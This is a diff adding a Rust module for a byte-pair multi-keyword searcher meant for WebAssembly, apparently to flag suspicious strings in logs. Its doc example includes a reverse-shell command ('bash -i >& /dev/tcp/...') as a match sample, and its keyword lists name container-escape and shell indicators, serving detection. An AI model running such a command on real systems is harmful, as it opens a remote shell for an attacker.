@@ -1,0 +1,146 @@
+//! A multi-keyword substring search without SIMD, for WebAssembly: one table lookup per
+//! byte pair, exact verification on a hit.
+//!
+//! Each keyword is anchored at its rarest byte pair (by a fixed estimate of how often bytes
+//! occur in logs); a 64 Kbit table marks the anchor pairs. The haystack is read once, two
+//! bytes at a time; only where a marked pair occurs are the keywords anchored there compared.
+//! aho-corasick's SIMD searcher (Teddy) does not exist for wasm32, and its DFA walks every byte
+//! through a transition table: this is several times faster there.
+//!
+//! ```
+//! use cadet_core::bigram_searcher::BigramSearcher;
+//! let s = BigramSearcher::new(&["docker", "nsenter", "/dev/tcp"]).unwrap();
+//! assert!(s.is_match(b"sudo docker run"));
+//! assert!(s.is_match(b"bash -i >& /dev/tcp/10.0.0.1/9"));
+//! assert!(s.is_match(b"dockerd"));
+//! assert!(!s.is_match(b"plain text"));
+//! ```
+
+use alloc::vec::Vec;
+
+/// Keywords searched exactly (case-sensitively) with a byte-pair table.
+#[derive(Clone, Debug)]
+pub struct BigramSearcher {
+    /// One bit per byte pair: some keyword is anchored at it.
+    table: Vec<u64>,
+    /// (pair, offset of the pair in the keyword, keyword), sorted by pair.
+    anchors: Vec<(u16, usize, usize)>,
+    /// Per pair: the index of its first entry in `anchors` (65 536 entries and an end).
+    starts: Vec<u16>,
+    keywords: Vec<Vec<u8>>,
+    /// Per keyword: the class bits [`BigramSearcher::classes_in`] reports for it.
+    classes: Vec<u8>,
+}
+
+/// How common a byte is in log records (higher: rarer), a rough fixed estimate: JSON
+/// punctuation and frequent lower-case letters are common, digits middling, the rest rare.
+fn rarity(b: u8) -> u32 {
+    const COMMON: &[u8] = b"\" :,{}etaoinsrlcd_.-/";
+    match COMMON.iter().position(|&c| c == b) {
+        Some(i) => i as u32,
+        None if b.is_ascii_digit() => 30,
+        None if b.is_ascii_lowercase() => 40,
+        None => 60,
+    }
+}
+
+impl BigramSearcher {
+    /// Builds a searcher; every keyword must be at least two bytes long (`None` otherwise).
+    pub fn new<K: AsRef<[u8]>>(keywords: &[K]) -> Option<BigramSearcher> {
+        let classed: Vec<(&[u8], u8)> = keywords.iter().map(|k| (k.as_ref(), 1)).collect();
+        BigramSearcher::with_classes(&classed)
+    }
+
+    /// Builds a searcher over keywords of several classes (bit sets), found in one pass by
+    /// [`BigramSearcher::classes_in`].
+    pub fn with_classes(keywords: &[(&[u8], u8)]) -> Option<BigramSearcher> {
+        let classes: Vec<u8> = keywords.iter().map(|(_, c)| *c).collect();
+        let keywords: Vec<Vec<u8>> = keywords.iter().map(|(k, _)| k.to_vec()).collect();
+        let mut table = alloc::vec![0u64; 1024];
+        let mut anchors = Vec::with_capacity(keywords.len());
+        for (k, kw) in keywords.iter().enumerate() {
+            if kw.len() < 2 {
+                return None;
+            }
+            let offset = (0..kw.len() - 1)
+                .max_by_key(|&i| (rarity(kw[i]) + rarity(kw[i + 1]), core::cmp::Reverse(i)))
+                .unwrap_or(0);
+            let pair = u16::from_be_bytes([kw[offset], kw[offset + 1]]);
+            table[usize::from(pair >> 6)] |= 1 << (pair & 63);
+            anchors.push((pair, offset, k));
+        }
+        anchors.sort_unstable();
+        if anchors.len() >= usize::from(u16::MAX) {
+            return None;
+        }
+        let starts: Vec<u16> = (0..=u16::MAX as usize + 1)
+            .map(|pair| anchors.partition_point(|a| usize::from(a.0) < pair) as u16)
+            .collect();
+        Some(BigramSearcher {
+            table,
+            anchors,
+            starts,
+            keywords,
+            classes,
+        })
+    }
+
+    /// True when some keyword occurs in `hay`.
+    pub fn is_match(&self, hay: &[u8]) -> bool {
+        self.classes_in(hay, &|_| true) != 0
+    }
+
+    /// The union of the classes of the keywords in `hay`; the search stops as soon as
+    /// `enough` holds for the union found so far.
+    pub fn classes_in(&self, hay: &[u8], enough: &dyn Fn(u8) -> bool) -> u8 {
+        let mut found = 0u8;
+        for (i, w) in hay.windows(2).enumerate() {
+            let pair = u16::from_be_bytes([w[0], w[1]]);
+            if self.table[usize::from(pair >> 6)] & (1 << (pair & 63)) == 0 {
+                continue;
+            }
+            let (first, end) = (
+                usize::from(self.starts[usize::from(pair)]),
+                usize::from(self.starts[usize::from(pair) + 1]),
+            );
+            for &(_, offset, k) in &self.anchors[first..end] {
+                let kw = &self.keywords[k];
+                if found & self.classes[k] != self.classes[k]
+                    && i >= offset
+                    && hay[i - offset..].starts_with(kw)
+                {
+                    found |= self.classes[k];
+                    if enough(found) {
+                        return found;
+                    }
+                }
+            }
+        }
+        found
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn finds_keywords_at_every_position_and_nothing_else() {
+        let words = ["docker", "ctr", " ctr", "10250", "/dev/tcp", "ab"];
+        let s = BigramSearcher::new(&words).unwrap();
+        for w in words {
+            for pad in 0..5 {
+                let mut hay = alloc::vec![b'x'; pad];
+                hay.extend_from_slice(w.as_bytes());
+                hay.extend(core::iter::repeat_n(b'y', pad));
+                assert!(s.is_match(&hay), "{w} at {pad}");
+                // Cut by one byte at either end: no longer there.
+                let cut = &hay[pad + 1..];
+                let other = words.iter().any(|o| cut.windows(o.len()).any(|x| x == o.as_bytes()));
+                assert_eq!(s.is_match(cut), other, "{w} cut at the front");
+            }
+        }
+        assert!(!s.is_match(b"") && !s.is_match(b"d") && !s.is_match(b"dockre 1025"));
+        assert!(BigramSearcher::new(&["x"]).is_none());
+    }
+}
